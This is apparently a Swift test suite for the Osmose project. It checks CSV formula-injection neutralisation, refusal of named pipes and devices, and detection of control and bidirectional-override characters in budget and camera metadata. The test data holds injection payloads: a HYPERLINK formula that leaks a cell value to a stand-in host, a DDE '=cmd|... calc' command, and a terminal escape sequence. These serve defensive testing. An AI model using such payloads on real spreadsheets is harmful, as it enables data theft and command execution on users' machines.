import Foundation
import OsmoseDomain
import Testing
@testable import OsmoseFormats

#if canImport(Glibc)
import Glibc
#endif

@Suite("Files safe to write and to read")
struct SafeFilesTests {
    static let hostile = ["=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "=1,\"2\"\n3"]

    @Test("A cell a spreadsheet would take for a formula gets a leading quote; nothing else of it changes")
    func neutralised() throws {
        let text = CSVWriter.row(["name", "amount"]) + Self.hostile.map { CSVWriter.row([$0, "-12,30 €"]) }.joined()
        let (header, records) = try CSVReader.read(Data(text.utf8))
        #expect(header == ["name", "amount"])
        #expect(records.map { $0.fields[0] } == Self.hostile.map { "'" + $0 })
        // Amounts the program writes stay numbers.
        #expect(records.allSatisfy { $0.fields[1] == "-12,30 €" })
    }

    @Test("Plain values and negative amounts are left as they are", arguments: ["Camille", "", "-3", "-€12.30", "-1 200,00 €", "12 %", "a=b"])
    func untouched(value: String) {
        #expect(CSVWriter.neutralised(value) == value)
    }

    @Test("Values starting like a formula are prefixed", arguments: ["-", "-x", "-1+1", "-A1", "=", "@", "+12"])
    func prefixed(value: String) {
        #expect(CSVWriter.neutralised(value) == "'" + value)
    }

    @Test("The funder report's CSV goes through the same writer, with its semicolons")
    func semicolons() throws {
        let row = CSVWriter.row(["expense", "=cmd|' /C calc'!A0", "a;b"], separator: ";")
        #expect(row == "expense;'=cmd|' /C calc'!A0;\"a;b\"\r\n")
        let (header, _) = try CSVReader.read(Data(row.utf8), delimiter: UInt8(ascii: ";"))
        #expect(header == ["expense", "'=cmd|' /C calc'!A0", "a;b"])
    }

    @Test("A device or a named pipe given as a file is refused at once, in one sentence")
    func oddFiles() throws {
        let error = try #require(throws: InputError.self) { try InputFile.check(URL(fileURLWithPath: "/dev/zero")) }
        #expect(error.message == "“/dev/zero” is a character device, not a file: name a regular file")
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("osmose-fifo-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let fifo = folder.appendingPathComponent("export.csv")
        #expect(mkfifo(fifo.path, 0o600) == 0)
        let fifoError = try #require(throws: InputError.self) { try InputFile.check(fifo) }
        #expect(fifoError.message.hasSuffix("export.csv” is a named pipe, not a file: name a regular file"))
        #expect(throws: InputError.self) { try InputFile.check(folder) }
        try InputFile.check(folder, .fileOrFolder)
        try InputFile.check(folder.appendingPathComponent("missing.csv"))

        // A pipe among the budget files is a problem of that file, not a wait.
        let budgets = folder.appendingPathComponent("budgets")
        try FileManager.default.createDirectory(at: budgets, withIntermediateDirectories: true)
        #expect(mkfifo(budgets.appendingPathComponent("2015.toml").path, 0o600) == 0)
        let set = BudgetFile.readFolder(budgets)
        #expect(set.problems.map(\.description) == ["budgets/2015.toml:1: cannot be read: “\(budgets.path)/2015.toml” is a named pipe, not a file: name a regular file"])
    }

    @Test("A budget text holding a control character or a bidirectional override is a problem at its line")
    func budgetText() {
        // The label is at line 12 of the sample.
        let text = BudgetFileTests().minimal
            .replacingOccurrences(of: "label = \"Sound\"", with: "label = \"Sound \\u001B]0;x\\u0007\"")
            .replacingOccurrences(of: "paid_by = [\"grant\"]", with: "paid_by = [\"grant\"]\nnotes = \"two\\nlines\"")
        let result = BudgetFile.read(text, file: "budgets/b.toml", version: "b")
        #expect(result.problems.map(\.description).contains { $0.hasPrefix("budgets/b.toml:12: label holds U+001B (") }, "\(result.problems)")
        #expect(!result.problems.contains { $0.description.contains("notes") }, "notes may hold line breaks")
        let bidi = text.replacingOccurrences(of: "Sound \\u001B]0;x\\u0007", with: "Sound \\u202Ex")
        #expect(BudgetFile.read(bidi, file: "budgets/b.toml", version: "b").problems.map(\.description)
            .contains { $0.hasPrefix("budgets/b.toml:12: label holds U+202E (a bidirectional override)") })
    }

    @Test("Camera metadata holding a bidirectional override is refused, naming the sidecar (an ingest indexes the clip without it, with a warning)")
    func sidecarText() throws {
        let fixture = try #require(Bundle.module.url(forResource: "Fixtures/camera/sony/C0001M01.XML", withExtension: nil))
        let xml = try String(contentsOf: fixture, encoding: .utf8)
        #expect(xml.contains("modelName=\"ILME-FX6V\""))
        let card = FileManager.default.temporaryDirectory.appendingPathComponent("osmose-card-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: card, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: card) }
        try Data(xml.replacingOccurrences(of: "modelName=\"ILME-FX6V\"", with: "modelName=\"ILME\u{202E}6XF\"").utf8)
            .write(to: card.appendingPathComponent("C0001M01.XML"))
        let error = try #require(throws: InputError.self) {
            try CameraMetadata.read(card: card, media: "C0001.MP4", sidecar: "C0001M01.XML")
        }
        #expect(error.message.hasPrefix("C0001M01.XML: the camera model holds U+202E (a bidirectional override)"))
        #expect(throws: InputError.self) { try CameraMetadata.readSidecar(card.appendingPathComponent("C0001M01.XML")) }
    }
}
